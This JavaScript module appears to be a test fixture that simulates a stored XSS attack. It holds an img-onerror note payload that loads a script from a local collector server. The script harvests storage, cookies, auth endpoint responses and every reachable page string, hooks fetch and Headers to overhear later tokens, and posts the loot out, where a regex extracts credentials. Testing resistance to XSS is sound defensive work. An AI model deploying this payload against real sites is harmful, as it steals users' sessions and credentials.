// Whoever has found the hole: a note that runs a script in the page of whoever looks at it, and a server that takes what the script sends.

import { createServer } from "node:http";
import { once } from "node:events";

/** What looks like a credential, wherever it stands. */
const CREDENTIAL = /eyJ[\w-]+\.[\w-]+\.[\w-]+|cf[rs]_[\w-]+|v4\.public\.[\w-]+/g;

/** The script. It looks everywhere that a script can, and listens to what the page sends from then on. */
async function search(home) {
  const plain = window.fetch;
  const send = (what) => plain(home, { method: "POST", mode: "no-cors", body: JSON.stringify(what) });

  /** Every text that can be reached from the window and from React's own tree. */
  function texts() {
    const found = new Set();
    const seen = new Set();
    const queue = [window, document, document.getElementById("root")];
    while (queue.length > 0 && seen.size < 300_000) {
      const at = queue.pop();
      if (seen.has(at)) continue;
      seen.add(at);
      for (const key of Reflect.ownKeys(at)) {
        let value;
        try {
          value = at[key];
        } catch {
          continue; // some members of the window refuse to be read
        }
        // A promise that nobody minds would be an error of the page's.
        if (value instanceof Promise) value.catch(() => undefined);
        if (typeof value === "string") found.add(value);
        else if (value && /^(object|function)$/.test(typeof value)) queue.push(value);
      }
    }
    return [...found];
  }

  /** What the authority says to requests in the name of whoever is here: it is readable, being of this origin. */
  async function answers() {
    const headers = { "X-Requested-With": "page", "Content-Type": "application/json" };
    const asked = [["GET", "/api/auth/me"], ["POST", "/api/auth/refresh"], ["GET", "/api/auth/sessions"]];
    return Promise.all(asked.map(async ([method, path]) => {
      const answer = await plain(path, { method, headers });
      return [...answer.headers].flat().join(" ") + await answer.text();
    }));
  }

  const databases = await indexedDB.databases();
  await send({
    storage: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie,
    databases, texts: texts(), answers: await answers(),
  });
  const plainSet = Headers.prototype.set;
  Headers.prototype.set = function (name, value) {
    void send({ overheard: `${name} ${value}` });
    return plainSet.call(this, name, value);
  };
  window.fetch = (input, init) => {
    void send({ overheard: JSON.stringify(init?.headers) });
    return plain(input, init);
  };
}

export class Thief {
  #server = createServer((req, res) => this.#answer(req, res));
  /** What the script has sent, as it came. */
  loot = [];

  static async settle(t) {
    const it = new Thief();
    it.#server.listen(0, "127.0.0.1");
    await once(it.#server, "listening");
    it.url = `http://127.0.0.1:${it.#server.address().port}/`;
    t.after(() => {
      it.#server.closeAllConnections();
      it.#server.close();
    });
    return it;
  }

  /** The text of the note. */
  get note() {
    return `Nice place!<img src="data:," onerror="import('${this.url}')">`;
  }

  /** All that looks like a credential in what was sent. */
  get stolen() {
    return [...new Set(this.loot.flatMap((text) => text.match(CREDENTIAL) ?? []))];
  }

  async #answer(req, res) {
    if (req.method === "GET") {
      res.writeHead(200, { "Content-Type": "text/javascript", "Access-Control-Allow-Origin": "*" });
      res.end(`(${search})(${JSON.stringify(this.url)});`);
      return;
    }
    let text = "";
    for await (const part of req.setEncoding("utf8")) text += part;
    this.loot.push(text);
    res.writeHead(204).end();
  }
}
